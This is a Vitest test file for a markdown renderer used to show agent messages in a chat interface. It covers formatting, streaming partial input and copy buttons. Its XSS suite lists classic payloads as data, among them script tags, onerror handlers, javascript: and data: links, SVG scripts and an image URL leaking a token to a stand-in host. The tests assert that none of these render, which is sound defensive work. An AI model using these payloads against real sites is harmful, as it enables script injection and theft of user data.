// @vitest-environment jsdom
// (happy-dom, the other tests' DOM, does not run DOMPurify faithfully: it keeps
// event-handler attributes, so the sanitizer is tested on jsdom.)
// Markdown rendering of messages: what renders, what never does (agent HTML,
// scripts, unsafe links, images), streaming partial input, copy buttons.
import { cleanup, fireEvent, render } from '@testing-library/preact';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { RichText } from '../src/components/RichText';
import { LangContext } from '../src/i18n';
import { renderMarkdown } from '../src/lib/markdown';

afterEach(cleanup);

function mount(text: string): HTMLElement {
  const { container } = render(
    <LangContext.Provider value="en">
      <RichText text={text} />
    </LangContext.Provider>,
  );
  return container.querySelector('.rich') as HTMLElement;
}

interface Case {
  name: string;
  md: string;
  /** CSS selectors that must match, with the text the first match must contain ('' for any). */
  has?: Record<string, string>;
  /** CSS selectors that must not match. */
  not?: string[];
  /** Text the rendered message must show. */
  shows?: string[];
}

const renders: Case[] = [
  { name: 'headings', md: '# Title\n\n### Sub', has: { h1: 'Title', h3: 'Sub' } },
  { name: 'emphasis and inline code', md: 'a **bold** _it_ ~~gone~~ `x := 1`', has: { strong: 'bold', em: 'it', del: 'gone', 'p > code': 'x := 1' } },
  { name: 'bullet list', md: '- one\n- two', has: { 'ul > li:nth-child(2)': 'two' } },
  { name: 'ordered list keeps its start', md: '3. three\n4. four', has: { 'ol[start="3"] > li': 'three' } },
  { name: 'task list renders marks, no inputs', md: '- [x] done\n- [ ] todo', has: { '.md-task--done': '☑', li: 'done' }, not: ['input'] },
  {
    name: 'table with alignment',
    md: '| name | n |\n|:-----|--:|\n| go | 1 |\n| rust | 2 |',
    has: { 'table thead th': 'name', 'table tbody tr:nth-child(2) td': 'rust', 'td[align="right"]': '1' },
  },
  { name: 'blockquote', md: '> quoted', has: { 'blockquote p': 'quoted' } },
  {
    name: 'fenced code with a language is highlighted',
    md: '```go\nfunc main() {}\n```',
    has: { 'pre.code code.hljs.language-go': 'func main() {}', 'code .hljs-keyword': 'func' },
  },
  { name: 'language alias', md: '```golang\npackage x\n```', has: { 'code.language-go .hljs-keyword': 'package' } },
  { name: 'unknown language is plain escaped code', md: '```klingon\n<b>qapla</b>\n```', has: { 'pre.code code.hljs': '<b>qapla</b>' }, not: ['code b', 'code span'] },
  { name: 'single newlines are line breaks', md: 'line one\nline two', has: { 'p br': '' } },
  { name: 'https link opens safely', md: '[docs](https://example.com/a?b=1)', has: { 'a[href="https://example.com/a?b=1"][target="_blank"][rel="noopener noreferrer nofollow"]': 'docs' } },
  { name: 'mailto link', md: '[mail](mailto:a@example.com)', has: { 'a[href="mailto:a@example.com"]': 'mail' } },
  { name: 'autolinked URL', md: 'see https://example.com now', has: { 'a[href="https://example.com"][rel="noopener noreferrer nofollow"]': 'https://example.com' } },
  { name: 'nested markdown in link text', md: '[**bold** `code`](https://example.com)', has: { 'a strong': 'bold', 'a code': 'code' } },
];

const xss: Case[] = [
  { name: 'script tag', md: 'hi <script>window.__pwned=1</script>', not: ['script'], shows: ['<script>window.__pwned=1</script>'] },
  { name: 'raw HTML block', md: '<div onclick="alert(1)">\n<b>raw</b>\n</div>', not: ['div', 'b', '[onclick]'], shows: ['<b>raw</b>'] },
  { name: 'img onerror', md: '<img src=x onerror="window.__pwned=1">', not: ['img', '[onerror]'], shows: ['onerror'] },
  { name: 'iframe', md: '<iframe src="https://evil.example"></iframe>', not: ['iframe'] },
  { name: 'javascript: link loses its href', md: '[click](javascript:alert(1))', has: { a: 'click' }, not: ['a[href]'] },
  { name: 'obfuscated javascript: link', md: '[click](jAvAsCrIpT&#58;alert(1))', not: ['a[href]'] },
  { name: 'data: link', md: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', not: ['a[href]'] },
  { name: 'relative link into the shell', md: '[x](/sessions)', not: ['a[href]'] },
  { name: 'vbscript: autolink', md: '<vbscript:msgbox(1)>', not: ['a[href]'] },
  { name: 'image is never loaded, only linked', md: '![secret](https://evil.example/?q=token)', has: { 'a.md-image[href="https://evil.example/?q=token"][rel="noopener noreferrer nofollow"]': 'secret' }, not: ['img'] },
  { name: 'data: image', md: '![x](data:image/png;base64,AAAA)', has: { 'span.md-image': 'x' }, not: ['img', 'a[href]'] },
  { name: 'html inside link text', md: '[<img src=x onerror=alert(1)>](https://example.com)', has: { a: '<img' }, not: ['img'] },
  { name: 'link title cannot break out', md: '[x](https://example.com "a\\" onmouseover=\\"alert(1)")', not: ['[onmouseover]'] },
  { name: 'style and class injection', md: '<span class="code__copy" style="position:fixed">x</span>', not: ['[style]', 'span.code__copy'] },
  { name: 'svg', md: '<svg><script>alert(1)</script></svg>', not: ['svg', 'script'] },
];

function check(c: Case) {
  const root = mount(c.md);
  for (const [sel, text] of Object.entries(c.has ?? {})) {
    const el = root.querySelector(sel);
    expect(el, `selector ${sel} in ${root.innerHTML}`).not.toBeNull();
    expect(el!.textContent).toContain(text);
  }
  for (const sel of c.not ?? []) expect(root.querySelector(sel), `selector ${sel} in ${root.innerHTML}`).toBeNull();
  for (const s of c.shows ?? []) expect(root.textContent).toContain(s);
}

describe('markdown renders', () => {
  it.each(renders)('$name', check);
});

describe('agent HTML and unsafe URLs never render', () => {
  it.each(xss)('$name', check);
  it('no event-handler attribute survives anywhere', () => {
    const box = document.createElement('div');
    box.innerHTML = renderMarkdown(xss.map((c) => c.md).join('\n\n'));
    for (const el of Array.from(box.querySelectorAll('*'))) {
      for (const a of Array.from(el.attributes)) {
        expect(a.name, el.outerHTML).not.toMatch(/^(?:on|style$|src$)/i);
        if (a.name === 'href') expect(a.value, el.outerHTML).toMatch(/^(?:https:|mailto:)/);
      }
    }
  });
});

describe('streaming partial markdown', () => {
  const steps = ['Here:\n\n```py', 'Here:\n\n```python\nprint("a")', 'Here:\n\n```python\nprint("a")\n```\n\n| a | b |', 'Here:\n\n```python\nprint("a")\n```\n\n| a | b |\n|---|---|\n| 1 |'];
  it.each(steps.map((md, i) => ({ name: `step ${i}`, md })))('$name renders without throwing', ({ md }) => {
    expect(() => renderMarkdown(md)).not.toThrow();
  });
  it('an unclosed fence mid-stream is already a code block, then stays one', () => {
    const { container, rerender } = render(
      <LangContext.Provider value="en">
        <RichText text={steps[1]!} />
      </LangContext.Provider>,
    );
    expect(container.querySelector('pre.code code.language-python')?.textContent).toBe('print("a")');
    rerender(
      <LangContext.Provider value="en">
        <RichText text={steps[3]!} />
      </LangContext.Provider>,
    );
    expect(container.querySelector('pre.code code.language-python')?.textContent).toBe('print("a")');
    expect(container.querySelector('table td')?.textContent).toBe('1');
  });
  it('the same text is not re-rendered: the DOM node survives a parent re-render', () => {
    const tree = (n: number) => (
      <LangContext.Provider value="en">
        <div data-n={n}>
          <RichText text={'**same**'} />
        </div>
      </LangContext.Provider>
    );
    const { container, rerender } = render(tree(1));
    const strong = container.querySelector('strong');
    rerender(tree(2));
    expect(container.querySelector('strong')).toBe(strong);
  });
});

describe('copy button', () => {
  it('copies the code of its block, not the button label', async () => {
    const writeText = vi.fn(() => Promise.resolve());
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const root = mount('```bash\necho hi\n```\n\n```\nsecond\n```');
    const buttons = root.querySelectorAll('pre.code > button.code__copy');
    expect(buttons.length).toBe(2);
    fireEvent.click(buttons[1]!);
    expect(writeText).toHaveBeenCalledWith('second');
    await Promise.resolve();
    await Promise.resolve();
    expect(buttons[1]!.textContent).toBe('Copied');
  });
});
